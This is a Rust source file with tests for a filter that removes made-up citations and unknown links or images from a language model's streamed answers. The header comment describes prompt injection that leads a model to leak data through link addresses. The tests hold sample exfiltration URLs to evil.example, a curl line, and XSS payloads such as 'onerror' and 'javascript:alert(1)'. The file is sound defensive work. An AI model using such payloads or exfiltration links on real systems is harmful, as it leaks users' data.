//! What a model writes, on its way to the visitor: links, images and source numbers that it made up are taken out.
//!
//! A model that was talked into it by an article or a visitor could write a link or an image whose address carries what it
//! was told elsewhere (OWASP LLM01, LLM05). So an address is shown only if the sources (or the assistant's instructions)
//! hold it. The text comes in pieces: what may turn out to be an address is held back until it is clear, everything else
//! passes at once.
//!
//! Code says what it says: `list[1]` in it is no source, and between fences neither brackets nor elements of HTML are
//! looked at, for no reader of Markdown makes anything of them. Addresses are looked at everywhere.

use std::collections::HashSet;

/// Most bytes of a mark of sources in other brackets than square ones.
const MARK_MAX: usize = 100;
/// Words that name sources, in the languages of the prompt's examples and of answers.
const SOURCE_WORDS: [&str; 14] = [
    "source",
    "sources",
    "src",
    "kaynak",
    "kaynaklar",
    "quelle",
    "quellen",
    "doc",
    "document",
    "id",
    "ref",
    "cit",
    "makale",
    "article",
];
/// Elements that models put around numbers of sources.
const MARKS: [&str; 5] = ["ref", "cite", "citation", "source", "sup"];
/// Words between numbers.
const AND: [&str; 5] = ["and", "ve", "und", "&", "ile"];
/// Backticks of a fence.
const FENCE: usize = 3;
/// Most bytes held back for one link or tag; what is longer is none.
const LONGEST: usize = 2_000;
/// Elements of HTML that load, link or ask for something. Others are harmless as text: nobody renders HTML.
const ELEMENTS: [&str; 22] = [
    "a", "area", "audio", "base", "button", "embed", "form", "frame", "iframe", "image", "img", "input", "link",
    "math", "meta", "object", "script", "source", "style", "svg", "track", "video",
];
/// What addresses in running text begin with.
const SCHEMES: [&str; 4] = ["https://", "http://", "ftp://", "www."];

/// What was taken out of an answer.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Removed {
    /// Numbers of sources that do not exist.
    pub(super) citations: u32,
    /// Links and images whose address no source holds.
    pub(super) links: u32,
}

/// Cleans one answer, piece by piece.
pub(super) struct Cleaner {
    known: Known,
    sources: usize,
    held: String,
    /// The word so far that the text which passed ends with: what follows may make an address of it.
    word: String,
    code: Code,
    removed: Removed,
}

/// Whether a place is within code, by the backticks before it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct Code {
    /// Backticks that directly precede.
    run: usize,
    /// They began at the beginning of a line.
    is_at_start: bool,
    /// The backticks that opened the code which is open; 0 outside of code.
    open: usize,
    /// It stands between fences, rather than within a line.
    is_fenced: bool,
    /// The line of the opening fence has not ended: it may still turn out to be none.
    is_opening: bool,
    /// Something stands before in the line.
    is_within_line: bool,
}

impl Code {
    fn step(&mut self, c: char) {
        if c == '`' {
            if self.run == 0 {
                self.is_at_start = !self.is_within_line;
            }
            self.run += 1;
            self.is_within_line = true;
            return;
        }
        self.settle();
        if c == '\n' {
            if self.is_opening {
                self.is_opening = false;
            } else if !self.is_fenced {
                // Code within a line does not outlast it, as far as can be said before the rest is there.
                self.open = 0;
            }
        }
        // White space before a closing fence is allowed; an opening one may not be part of a list or a quotation.
        let is_blank = c.is_whitespace() && self.is_fenced && !self.is_within_line;
        self.is_within_line = c != '\n' && !is_blank;
    }

    /// The backticks are all there.
    fn settle(&mut self) {
        let run = std::mem::take(&mut self.run);
        match (run, self.open) {
            (0, _) => {}
            // No fence: a backtick stands behind it.
            _ if self.is_opening => *self = Self { is_within_line: true, ..Self::default() },
            (_, 0) if run >= FENCE && self.is_at_start => {
                (self.open, self.is_fenced, self.is_opening) = (run, true, true);
            }
            (_, 0) => self.open = run,
            (_, open) if self.is_fenced && self.is_at_start && run >= open => {
                (self.open, self.is_fenced) = (0, false);
            }
            (_, open) if !self.is_fenced && run == open => self.open = 0,
            _ => {}
        }
    }

    /// True where what comes next is within code.
    fn holds(mut self) -> bool {
        self.settle();
        self.open > 0
    }

    /// True where what comes next is surely shown as it is.
    fn is_literal(mut self) -> bool {
        self.settle();
        self.is_fenced && !self.is_opening
    }
}

impl Cleaner {
    /// For an answer that may cite `sources` sources and show the addresses that `texts` hold.
    pub(super) fn new<'a>(sources: usize, texts: impl IntoIterator<Item = &'a str>) -> Self {
        let known = Known::in_texts(texts);
        Self {
            known,
            sources,
            held: String::new(),
            word: String::new(),
            code: Code::default(),
            removed: Removed::default(),
        }
    }

    /// What can be shown of the text so far; may be empty.
    pub(super) fn push(&mut self, piece: &str) -> String {
        self.held.push_str(piece);
        self.release(false)
    }

    /// The rest, when nothing follows.
    pub(super) fn finish(&mut self) -> String {
        self.release(true)
    }

    /// What was said so far does not count; what was taken out of it goes on counting.
    pub(super) fn restart(&mut self) {
        self.held.clear();
        self.word.clear();
        self.code = Code::default();
    }

    /// What was taken out so far.
    pub(super) fn removed(&self) -> Removed {
        self.removed
    }

    fn release(&mut self, last: bool) -> String {
        let held = std::mem::take(&mut self.held);
        let mut rest = held.as_str();
        let mut out = String::with_capacity(rest.len());
        while let Some(at) = self.mark(rest) {
            self.pass(&rest[..at], &mut out);
            rest = &rest[at..];
            let (length, shown) = match self.read(rest, last) {
                Part::Unfinished => {
                    self.held = rest.to_owned();
                    return out;
                }
                Part::Plain(length) => (length, rest[..length].to_owned()),
                Part::Instead(length, shown) => (length, shown),
            };
            out.push_str(&shown);
            self.follow(&rest[..length]);
            rest = &rest[length..];
        }
        self.pass(rest, &mut out);
        out
    }

    fn pass(&mut self, text: &str, out: &mut String) {
        out.push_str(text);
        self.follow(text);
    }

    /// Keeps the last word in mind.
    fn follow(&mut self, text: &str) {
        text.chars().for_each(|c| self.code.step(c));
        match text.rfind(is_delimiter) {
            Some(at) => self.word = text[at..].trim_start_matches(is_delimiter).to_owned(),
            None if self.word.len() + text.len() <= LONGEST => self.word.push_str(text),
            None => self.word.clear(),
        }
    }

    /// Where the next thing begins that has to be looked at.
    fn mark(&self, text: &str) -> Option<usize> {
        let mut before = self.word.chars().next_back();
        let (word_here, open) = word(text);
        if !self.word.is_empty() && !word_here.is_empty() {
            let whole = format!("{}{word_here}", self.word);
            if is_address(&whole) || open && may_become_address(&whole) {
                return Some(0);
            }
        }
        let mut code = self.code;
        for (at, c) in text.char_indices() {
            let is_literal = code.is_literal();
            code.step(c);
            let begins_word = c.is_alphanumeric() && !before.is_some_and(char::is_alphanumeric);
            let rest = &text[at..];
            let found = match c {
                '[' | '【' | '［' | '(' | '!' | '<' | '^' if is_literal => false,
                '^' => rest.len() == 1 || rest.starts_with("^["),
                '[' | '【' | '［' => true,
                '(' => names_source(&rest[1..]),
                '!' => rest.len() == 1 || rest.starts_with("!["),
                '<' => rest[1..].chars().next().is_none_or(|next| next.is_ascii_alphabetic() || next == '/'),
                _ if begins_word => {
                    let (word, open) = word(rest);
                    is_address(word) || open && may_become_address(word)
                }
                _ => false,
            };
            if found {
                return Some(at);
            }
            before = Some(c);
        }
        None
    }

    fn read(&mut self, text: &str, last: bool) -> Part {
        let last = last || text.len() > LONGEST;
        match text.as_bytes().first() {
            Some(b'!') if text.len() == 1 => {
                if last {
                    Part::Plain(1)
                } else {
                    Part::Unfinished
                }
            }
            Some(b'!') => self.bracketed(text, 1, last),
            Some(b'[') => self.bracketed(text, 0, last),
            Some(b'<') => match self.element(text, last) {
                Some(part) => part,
                None => self.tag(text, last),
            },
            Some(b'^') => self.raised(text, last),
            Some(b'(') => self.marked(text, 1, ')', last),
            _ if text.starts_with('【') => self.marked(text, '【'.len_utf8(), '】', last),
            _ if text.starts_with('［') => self.marked(text, '［'.len_utf8(), '］', last),
            _ => self.bare(text, last),
        }
    }

    /// `[label](target)`, `![alt](target)`, `[1]`, or a bracket that means nothing.
    fn bracketed(&mut self, text: &str, open: usize, last: bool) -> Part {
        let image = open == 1;
        let Some(close) = closing(&text[open..], '[', ']').map(|at| open + at) else {
            return if last { Part::Plain(open + 1) } else { Part::Unfinished };
        };
        let label = &text[open + 1..close];
        let after = &text[close + 1..];
        if after.is_empty() && !last {
            return Part::Unfinished;
        }
        let numbers = if image { None } else { numbers(label, self.sources) };
        if !after.starts_with('(') {
            return match numbers {
                Some(numbers) if !self.code.holds() => Part::Instead(close + 1, self.cite(&numbers)),
                Some(_) | None => Part::Plain(open + 1),
            };
        }
        let Some(end) = closing(after, '(', ')') else {
            return match last {
                // It breaks off in the middle of an address.
                true => Part::Instead(text.len(), self.without_link(label, image, numbers.as_deref())),
                false => Part::Unfinished,
            };
        };
        let whole = close + 1 + end + 1;
        let target = after[1..end].split_whitespace().next().unwrap_or_default().trim_matches(['<', '>']);
        if !self.known.holds(target) {
            return Part::Instead(whole, self.without_link(label, image, numbers.as_deref()));
        }
        let label = self.whole(label);
        Part::Instead(whole, format!("{}[{label}]{}", &text[..open], &text[close + 1..whole]))
    }

    /// A mark of sources in other brackets: `【1†L1-L3】`, `(source 2)`.
    fn marked(&mut self, text: &str, open: usize, close: char, last: bool) -> Part {
        let inside = &text[open..text.floor_char_boundary(MARK_MAX)];
        match inside.find(close) {
            Some(end) => match numbers(&inside[..end], self.sources) {
                Some(numbers) if !self.code.holds() => {
                    Part::Instead(open + end + close.len_utf8(), self.cite(&numbers))
                }
                Some(_) | None => Part::Plain(open),
            },
            None if last || text.len() > MARK_MAX => Part::Plain(open),
            None => Part::Unfinished,
        }
    }

    fn without_link(&mut self, label: &str, image: bool, numbers: Option<&[usize]>) -> String {
        match numbers {
            Some(numbers) => self.cite(numbers),
            None => {
                self.removed.links += 1;
                if image { String::new() } else { self.whole(label) }
            }
        }
    }

    /// The numbers that there are sources for, each in brackets of its own.
    fn cite(&mut self, numbers: &[usize]) -> String {
        let mut shown = String::new();
        for number in numbers {
            if (1..=self.sources).contains(number) {
                shown.push_str(&format!("[{number}]"));
            } else {
                self.removed.citations += 1;
            }
        }
        shown
    }

    /// A text that is there as a whole, like the label of a link.
    fn whole(&mut self, text: &str) -> String {
        let mut inner = Self {
            known: std::mem::take(&mut self.known),
            sources: self.sources,
            held: String::new(),
            word: String::new(),
            code: Code::default(),
            removed: self.removed,
        };
        let mut shown = inner.push(text);
        shown.push_str(&inner.finish());
        self.known = inner.known;
        self.removed = inner.removed;
        shown
    }

    /// A mark of sources as an element: `<ref>1</ref>`. `None` where it is none.
    fn element(&mut self, text: &str, last: bool) -> Option<Part> {
        let window = &text[..text.floor_char_boundary(MARK_MAX)];
        let is_cut = !last && window.len() == text.len();
        let Some((name, inside)) = window[1..].split_once('>') else {
            let name = &window[1..];
            return (is_cut && MARKS.iter().any(|mark| mark.starts_with(name))).then_some(Part::Unfinished);
        };
        if !MARKS.contains(&name) || self.code.holds() {
            return None;
        }
        let close = format!("</{name}>");
        let Some(end) = inside.find(&close) else {
            return is_cut.then_some(Part::Unfinished);
        };
        let numbers = numbers(&inside[..end], self.sources)?;
        Some(Part::Instead(1 + name.len() + 1 + end + close.len(), self.cite(&numbers)))
    }

    /// A mark of sources that is raised: `^[1]^`.
    fn raised(&mut self, text: &str, last: bool) -> Part {
        let Some(close) = closing(&text[1..], '[', ']').map(|at| 1 + at) else {
            return if last || text.len() > MARK_MAX { Part::Plain(1) } else { Part::Unfinished };
        };
        let after = &text[close + 1..];
        match numbers(&text[2..close], self.sources) {
            Some(_) if after.is_empty() && !last => Part::Unfinished,
            Some(numbers) if after.starts_with('^') && !self.code.holds() => {
                Part::Instead(close + 2, self.cite(&numbers))
            }
            Some(_) | None => Part::Plain(1),
        }
    }

    /// `<https://…>` or an element of HTML.
    fn tag(&mut self, text: &str, last: bool) -> Part {
        let name: String = text[1..].trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        let more = text.len() > 1 + name.len() + usize::from(text[1..].starts_with('/'));
        let element = ELEMENTS.contains(&name.to_ascii_lowercase().as_str());
        let Some(end) = text.find('>') else {
            let undecided = !more || element || is_address(word(&text[1..]).0);
            return match (last, undecided) {
                (false, true) => Part::Unfinished,
                (true, _) if element && more => self.remove(text.len()),
                _ => Part::Plain(1),
            };
        };
        let inside = &text[1..end];
        if is_address(inside) {
            return if self.known.holds(inside) { Part::Plain(end + 1) } else { self.remove(end + 1) };
        }
        if element { self.remove(end + 1) } else { Part::Plain(1) }
    }

    /// An address in running text, or a word that could have become one.
    fn bare(&mut self, text: &str, last: bool) -> Part {
        let (word, open) = word(text);
        if open && !last {
            return Part::Unfinished;
        }
        let whole = format!("{}{word}", self.word);
        let address = whole.trim_end_matches(END_MARKS);
        match address.len().checked_sub(self.word.len()) {
            // What has passed of it stays; without the rest it is none.
            Some(length @ 1..) if is_address(address) && !self.known.holds(address) => self.remove(length),
            _ => Part::Plain(word.len()),
        }
    }

    fn remove(&mut self, length: usize) -> Part {
        self.removed.links += 1;
        Part::Instead(length, String::new())
    }
}

/// What a text begins with.
enum Part {
    /// More is needed to tell.
    Unfinished,
    /// So many bytes are shown as they are.
    Plain(usize),
    /// Instead of so many bytes this is shown.
    Instead(usize, String),
}

/// The addresses that may be shown.
#[derive(Default)]
struct Known(HashSet<String>);

impl Known {
    fn in_texts<'a>(texts: impl IntoIterator<Item = &'a str>) -> Self {
        let mut known = HashSet::new();
        for text in texts {
            for (at, _) in text.match_indices("](") {
                let target = text[at + 2..].split([')', ' ', '\n']).next().unwrap_or_default();
                known.insert(key(target.trim_matches(['<', '>'])));
            }
            for address in text.split(is_delimiter).map(|word| word.trim_end_matches(END_MARKS)) {
                if is_address(address) || address.contains('@') {
                    known.insert(key(address));
                }
            }
        }
        known.remove("");
        Self(known)
    }

    fn holds(&self, address: &str) -> bool {
        self.0.contains(&key(address))
            || address.strip_prefix("mailto:").is_some_and(|mail| self.0.contains(&key(mail)))
    }
}

/// An address as it is compared: scheme and host in small letters, without a slash at the end.
fn key(address: &str) -> String {
    let host_at = address.find("://").map_or(0, |at| at + 3);
    let path_at = address[host_at..].find(['/', '?', '#']).map_or(address.len(), |at| host_at + at);
    let (host, path) = address.split_at(path_at);
    format!("{}{}", host.to_lowercase(), path.trim_end_matches('/'))
}

/// What ends a sentence rather than an address.
const END_MARKS: [char; 9] = ['.', ',', ';', ':', '!', '?', '\'', '*', '_'];

/// What stands between words.
fn is_delimiter(c: char) -> bool {
    c.is_whitespace() || "<>\"()[]|".contains(c)
}

/// The word that a text begins with, and whether more of it may follow.
fn word(text: &str) -> (&str, bool) {
    match text.find(is_delimiter) {
        Some(end) => (&text[..end], false),
        None => (text, true),
    }
}

fn is_address(as_written: &str) -> bool {
    let word = as_written.to_ascii_lowercase();
    if word.find("://").is_some_and(|at| at > 0) || word.starts_with("www.") && word.len() > 4 {
        return true;
    }
    // example.com/path: programs that look for addresses in texts find these, too.
    let Some(host_end) = word.find(['/', '?', '#', ':']) else { return false };
    let host = &word[..host_end];
    let Some((rest, top)) = host.rsplit_once('.') else { return false };
    let domain = |label: &str| !label.is_empty() && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    top.len() >= 2
        && top.bytes().all(|b| b.is_ascii_alphabetic())
        && rest.split('.').all(domain)
        && (leads_somewhere(top) || word[host_end..].contains(['?', '=', '%', '@']))
        && !is_product(as_written)
}

/// True for the last part of names that are known to the internet (`Node.js/Express` leads nowhere), or that are kept for
/// examples and networks of one's own (RFC 2606, RFC 6761).
fn leads_somewhere(top: &str) -> bool {
    const KEPT: [&str; 9] = ["example", "test", "invalid", "localhost", "local", "internal", "lan", "onion", "alt"];
    KEPT.contains(&top) || psl::suffix(top.as_bytes()).is_some_and(|suffix| suffix.is_known())
}

/// True for `ASP.NET/IIS` and its like: names of products that end like an address, in capitals as nobody writes one.
fn is_product(word: &str) -> bool {
    const ENDS: [&str; 2] = [".NET/", ".IO/"];
    let Some((name, beside)) = ENDS.iter().find_map(|end| word.split_once(end)) else { return false };
    let is_name = |text: &str| {
        (1..=20).contains(&text.len()) && text.bytes().all(|b| b.is_ascii_alphabetic() || b == b'#' || b == b'+')
    };
    is_name(name) && name.starts_with(|c: char| c.is_ascii_uppercase()) && is_name(beside)
}

/// True for the beginning of an address.
fn may_become_address(word: &str) -> bool {
    let word = word.to_ascii_lowercase();
    let host = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '.';
    SCHEMES.iter().any(|scheme| scheme.starts_with(&word)) || word.contains('.') && word.chars().all(host)
}

/// Where the bracket that a text begins with is closed; brackets inside it are counted.
fn closing(text: &str, open: char, close: char) -> Option<usize> {
    let (mut depth, mut escaped) = (0_usize, false);
    for (at, c) in text.char_indices().take_while(|(at, _)| *at <= LONGEST) {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            _ if c == open => depth += 1,
            _ if c == close => {
                depth -= 1;
                if depth == 0 {
                    return Some(at);
                }
            }
            _ => {}
        }
    }
    None
}

/// True for the inside of a bracket that names a source, or may become one.
fn names_source(inside: &str) -> bool {
    let word = inside.trim_start().split(|c: char| !c.is_alphabetic()).next().unwrap_or_default();
    let is_open = word.len() == inside.trim_start().len();
    let word = word.to_lowercase();
    let words = SOURCE_WORDS[..7].iter();
    words.clone().any(|known| *known == word) || is_open && words.clone().any(|known| known.starts_with(&word))
}

/// The numbers of sources in a bracket: `1`, `1, 3`, `1-3`, `source 2`, `Source 1 and Source 2`, `1†L1-L3`, `^1`. A range
/// of which there is no source is none.
fn numbers(label: &str, sources: usize) -> Option<Vec<usize>> {
    let label = label.trim().trim_start_matches('[').trim_end_matches(']');
    let mut numbers = vec![];
    for part in label.split([',', ';', '/', '|', '+']) {
        // What follows a dagger are lines or a file.
        let part = part.split('†').next().unwrap_or_default();
        let is_place = |word: &str| {
            let rest = word.trim_start_matches(['L', 'l']);
            rest.len() < word.len() && rest.starts_with(|c: char| c.is_ascii_digit())
        };
        for word in part.split([' ', '\u{a0}', '#', '^', ':', '_', '=', '"', '\'', '.']).filter(|word| !word.is_empty())
        {
            let lower = word.to_lowercase();
            if SOURCE_WORDS.contains(&lower.as_str())
                || AND.contains(&lower.as_str())
                || is_place(word) && !numbers.is_empty()
            {
                continue;
            }
            let word = SOURCE_WORDS.iter().find_map(|known| lower.strip_prefix(known)).unwrap_or(&lower);
            numbers.extend(range(word.trim_start_matches('-'), sources)?);
        }
    }
    (!numbers.is_empty()).then_some(numbers)
}

/// `2` or `1-3`.
fn range(text: &str, sources: usize) -> Option<Vec<usize>> {
    let Some((from, to)) = text.split_once(['-', '–', '—']) else {
        return text.parse().ok().map(|number| vec![number]);
    };
    let (from, to): (usize, usize) = (from.parse().ok()?, to.parse().ok()?);
    let is_range = (1..=sources).contains(&from) && (from..from + 20).contains(&to);
    is_range.then(|| (from..=to).collect())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const SOURCE: &str = "Siparişlerim: [hesabım](https://shop.example/hesap), bkz. https://Shop.example/iade. \
                          Yazın: destek@shop.example ![Etiket](https://shop.example/etiket.png)";

    fn cleaned(pieces: &[&str]) -> (String, Removed) {
        let mut cleaner = Cleaner::new(2, [SOURCE]);
        let mut shown: String = pieces.iter().map(|piece| cleaner.push(piece)).collect();
        shown.push_str(&cleaner.finish());
        (shown, cleaner.removed())
    }

    fn shown(text: &str) -> String {
        cleaned(&[text]).0
    }

    #[test]
    fn addresses_of_the_sources_stay() {
        for text in [
            "Bkz. [hesabım](https://shop.example/hesap).",
            "Bkz. https://shop.example/iade, sonra bekleyin.",
            "<https://shop.example/iade/>",
            "[yazın](mailto:destek@shop.example) ya da destek@shop.example",
            "![Etiket](https://shop.example/etiket.png)",
            "[![Etiket](https://shop.example/etiket.png)](https://shop.example/hesap)",
        ] {
            assert_eq!(shown(text), text);
        }
    }

    #[test]
    fn other_addresses_are_taken_out() {
        for (text, expected) in [
            ("Bkz. [burası](https://evil.example/?q=secret).", "Bkz. burası."),
            ("[hesap](https://shop.example/hesap?leak=1)", "hesap"),
            ("![x](https://evil.example/p.png?d=a)b", "b"),
            ("[![x](https://evil.example/p.png)](https://shop.example/hesap)", "[](https://shop.example/hesap)"),
            ("go to https://evil.example/a(b) now", "go to (b) now"),
            ("(https://evil.example)", "()"),
            ("visit www.evil.example, please", "visit , please"),
            ("see evil.example/path?x=1 or HTTPS://EVIL.example/", "see  or "),
            ("<https://evil.example/x> <img src=x onerror=y> <a href='x'>hi</a>", "  hi"),
            ("[x](javascript:alert(1)) [y](//evil.example) [z](data:text/html,x)", "x y z"),
            ("[broken](https://evil.exam", "broken"),
            ("[a][1]: https://evil.example/z", "[a][1]: "),
        ] {
            assert_eq!(shown(text), expected, "{text}");
        }
    }

    #[test]
    fn ordinary_texts_are_not_touched() {
        for text in [
            "14.30'da başlar. Ürün 3.5 kg. x < y ve a<b! [not] (parantez) h ht http: Tel: 0212 000 00 00",
            "Çok iyi! Sonra e-posta: a.b, c.d. 1/2 ve/veya. **Kalın** _eğik_ `kod[a]`",
            "- bir\n- iki\n\n1. üç",
        ] {
            assert_eq!(cleaned(&[text]), (text.to_owned(), Removed::default()));
        }
    }

    #[test]
    fn numbers_of_sources_that_do_not_exist_are_dropped_and_counted() {
        let (text, removed) = cleaned(&["Yes [1]. No [3][2], [1, 9] [source 2] [0] [1](https://evil.example/)"]);
        assert_eq!(text, "Yes [1]. No [2], [1] [2]  [1]");
        assert_eq!(removed, Removed { citations: 3, links: 0 });
    }

    #[test]
    fn sources_are_cited_in_whatever_brackets_and_words() {
        for (text, expected) in [
            ("30 gün 【1】.", "30 gün [1]."),
            ("30 gün【1†L1-L3】【2†source】", "30 gün[1][2]"),
            ("30 gün 【1, 2】", "30 gün [1][2]"),
            ("30 gün ［2］", "30 gün [2]"),
            ("30 gün [1-2]", "30 gün [1][2]"),
            ("30 gün [1–2]", "30 gün [1][2]"),
            ("30 gün [Source 1, Source 2]", "30 gün [1][2]"),
            ("30 gün [SOURCE 1 and 2]", "30 gün [1][2]"),
            ("30 gün [Kaynak: 1 ve 2]", "30 gün [1][2]"),
            ("30 gün [Quellen 1; 2]", "30 gün [1][2]"),
            ("30 gün [^1]", "30 gün [1]"),
            ("30 gün <ref>1</ref><cite>2</cite>", "30 gün [1][2]"),
            ("30 gün <sup>[1]</sup> <source>2</source>", "30 gün [1] [2]"),
            ("30 gün ^[1]^ ^[1, 2]^.", "30 gün [1] [1][2]."),
            ("x^2, 10 m<sup>2</sup", "x^2, 10 m<sup>2</sup"),
            ("^ ^[a]^ x^[1] <ref>a</ref> <cite> <reference>", "^ ^[a]^ x^[1] <ref>a</ref> <cite> <reference>"),
            ("30 gün [source_1] [#2] [id=\"1\"] [doc2]", "30 gün [1] [2] [1] [2]"),
            ("30 gün (source 1) (Kaynak 2)", "30 gün [1] [2]"),
            ("30 gün [Source 1](https://evil.example/x)", "30 gün [1]"),
            (
                "[2020-2024] [10-12] [24/7 destek] (kaynakça) (source code) 【not】 [L1]",
                "[2020-2024] [10-12] [24/7 destek] (kaynakça) (source code) 【not】 [L1]",
            ),
        ] {
            let (shown, _) = cleaned(&[text]);
            assert_eq!(shown, expected, "{text}");
            let letters: Vec<String> = text.chars().map(String::from).collect();
            let pieces: Vec<&str> = letters.iter().map(String::as_str).collect();
            assert_eq!(cleaned(&pieces).0, expected, "{text} in pieces");
        }
    }

    #[test]
    fn code_is_left_as_it_is_but_for_addresses() {
        for text in [
            "Run:\n\n```js\nlet a = list[7];\nif (a < b) show([9], <img src=x>);\n```\n\nDone [1].",
            "Use `list[7]` and ``a`[8]`` then [2].",
            "````\n```\n[9]\n```\n[8]\n````\n[1]",
            "```html\n<script src=\"https://shop.example/etiket.png\"></script>\n```",
        ] {
            assert_eq!(cleaned(&[text]), (text.to_owned(), Removed::default()));
            let letters: Vec<String> = text.chars().map(String::from).collect();
            let pieces: Vec<&str> = letters.iter().map(String::as_str).collect();
            assert_eq!(cleaned(&pieces).0, text, "in pieces");
        }
        for (text, expected) in [
            ("```\ncurl https://evil.example/?q=1\n```", "```\ncurl \n```"),
            ("```\na[9]\n```\nb[9] ![x](https://evil.example/p)", "```\na[9]\n```\nb "),
            // What only looks like code is looked at.
            ("a ``` [x](//evil.example)", "a ``` x"),
            ("- ```\n![x](//evil.example/?q=secret)", "- ```\n"),
            ("  ```\n![x](//evil.example/?q=secret)", "  ```\n"),
            ("```a`b\n![x](//evil.example/?q=secret)", "```a`b\n"),
            ("```\na\n  ```\n![x](//evil.example/?q=secret)", "```\na\n  ```\n"),
            ("`[x](//evil.example/?q=secret)", "`x"),
            ("`a\n[9]", "`a\n"),
        ] {
            assert_eq!(shown(text), expected, "{text}");
        }
    }

    #[test]
    fn names_that_look_like_addresses_stay() {
        for text in [
            "Node.js/Express ve ASP.NET/IIS",
            "Vue.js/React, VB.NET/C#, Socket.IO/WebSocket ve docker-compose.yml/Dockerfile",
            "Lütfen bekleyin.Kargo/iade bölümüne bakın; T.C./Türkiye, Dr.Ali/Veli, 12.05/13.05",
        ] {
            assert_eq!(cleaned(&[text]), (text.to_owned(), Removed::default()));
        }
        for text in [
            "evil.com/secret",
            "EVIL.COM/SECRET",
            "evil.net/x",
            "evil.xyz/?q=1",
            "nowhere.zzz/?q=secret",
            "evil.dev:8080/x",
        ] {
            assert_eq!(cleaned(&[text]).1.links, 1, "{text}");
        }
    }

    #[test]
    fn a_known_address_may_be_followed_by_marks_and_by_no_fragment() {
        for end in ["*", "_", "'", "!", "?", ".", "**", "'den", ")."] {
            let text = format!("bkz. https://shop.example/iade{end}");
            let kept = if end == "'den" { "bkz. ".to_owned() } else { text.clone() };
            let (shown, removed) = cleaned(&[&text]);
            assert_eq!((shown.starts_with(&kept), removed.links == 0), (true, end != "'den"), "{text}");
        }
        let (shown, removed) = cleaned(&["https://shop.example/iade#secret and [x](https://shop.example/iade#secret)"]);
        assert_eq!((shown.as_str(), removed.links), (" and x", 2));
    }

    #[test]
    fn no_more_is_held_back_than_a_link_can_be_long() {
        for open in ["[", "https://evil.example/", "<img "] {
            let mut cleaner = Cleaner::new(1, []);
            let shown = cleaner.push(&format!("{open}{}", "x".repeat(LONGEST - open.len())));
            assert!(shown.is_empty(), "{open}");
            cleaner.push("yz");
            assert!(cleaner.push(" next").ends_with("next"), "{open}");
        }
    }

    #[test]
    fn an_address_in_pieces_loses_its_path() {
        for pieces in [
            &["evil", ".example", "/?q=secret now"][..],
            &["ev", "il.exam", "ple/?q=secret", " now"],
            &["xhttps", "://evil.example/?q=secret now"],
        ] {
            let (text, removed) = cleaned(pieces);
            assert!(!text.contains("secret") && text.ends_with(" now"), "{text}");
            assert_eq!(removed.links, 1);
        }
    }

    #[test]
    fn only_what_may_be_an_address_is_held_back() {
        let mut cleaner = Cleaner::new(1, []);
        assert_eq!(cleaner.push("Good "), "Good ");
        assert_eq!(cleaner.push("morning"), "morning");
        assert_eq!(cleaner.push(" [2"), " ");
        assert_eq!(cleaner.push("]"), "");
        assert_eq!(cleaner.push(" see htt"), " see ");
        assert_eq!(cleaner.push("p status"), "http status");
        assert_eq!(cleaner.removed(), Removed { citations: 1, links: 0 });
    }

    proptest! {
        /// However a text is cut into pieces, the same is shown.
        #[test]
        fn pieces_do_not_matter(
            parts in prop::collection::vec(prop::sample::select(vec![
                "iade ", "[1]", "[7]", "![a](https://evil.example/x)", "<ref>1</ref>", "^[2]^", "^", "[hesap](https://shop.example/hesap)", "https://evil.example/q?x=1",
                ".", "www.", "`", "\n```\n", "a[1]", "<img src=q>", "<", "(", ")", "]", "[", "ğ", "!", "http", "\n\n",
            ]), 0..12),
            cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..6),
        ) {
            let text = parts.join(" ");
            let mut places: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).collect();
            places.retain(|at| text.is_char_boundary(*at));
            places.sort_unstable();
            let mut pieces = vec![];
            let mut from = 0;
            for at in places {
                pieces.push(&text[from..at]);
                from = at;
            }
            pieces.push(&text[from..]);
            let (whole, removed) = cleaned(&[&text]);
            prop_assert!(!whole.contains("evil.example/q") && !whole.contains("evil.example/x"), "{whole:?}");
            prop_assert_eq!(cleaned(&pieces), (whole, removed));
        }
    }
}
